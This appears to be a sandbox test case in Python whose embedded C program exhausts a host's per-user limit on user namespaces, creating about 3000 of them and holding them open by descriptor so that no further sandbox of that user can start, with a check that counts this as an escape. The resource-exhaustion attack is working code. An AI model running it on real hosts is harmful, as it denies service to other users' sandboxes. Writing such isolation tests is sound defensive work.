"""With process.nesting: makes namespaces and keeps them by descriptors, until the host gives the
user no more of them, so that no other sandbox of the user can start.

layer: user namespace
control: without a sandbox it gets as many as it asks for
"""
ENGINES = ("native",)
ENGINES_WHY = "namespaces inside are the inner runtime's own, or there is no nesting"
OPTIONS = ["--set", "process.nesting=true"]
C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <sys/wait.h>
#include <unistd.h>
#define HOLDERS 3
#define EACH 1000
static int keep_one(void)
{
	char path[64], byte;
	int ready[2], end[2], fd;

	pipe(ready);
	pipe(end);
	pid_t pid = fork();
	if (pid == 0) {
		if (unshare(CLONE_NEWUSER) == 0)
			write(ready[1], "x", 1);
		close(ready[1]);
		close(end[1]);
		read(end[0], &byte, 1);
		_exit(0);
	}
	close(ready[1]);
	snprintf(path, sizeof(path), "/proc/%d/ns/user", pid);
	fd = pid > 0 && read(ready[0], &byte, 1) == 1 ? open(path, O_RDONLY) : -1;
	close(ready[0]);
	close(end[0]);
	close(end[1]);
	waitpid(pid, NULL, 0);
	return fd;
}
int main(void)
{
	int told[2], total = 0, n;
	pid_t holders[HOLDERS];

	write(2, "[attack began]\n", 15);
	pipe(told);
	for (int k = 0; k < HOLDERS; k++)
		if ((holders[k] = fork()) == 0) {
			for (n = 0; n < EACH && keep_one() >= 0; n++)
				;
			write(told[1], &n, sizeof(n));
			pause();
		}
	for (int k = 0; k < HOLDERS; k++)
		total += read(told[0], &n, sizeof(n)) == sizeof(n) ? n : 0;
	printf("kept: %d\n", total);
	fflush(stdout);
	for (int k = 0; k < HOLDERS; k++)
		kill(holders[k], SIGKILL);
	return 0;
}
"""


def escaped(_scene, r):
    return "kept:" in r.out and int(r.out.split("kept:")[1].split()[0]) >= 3000
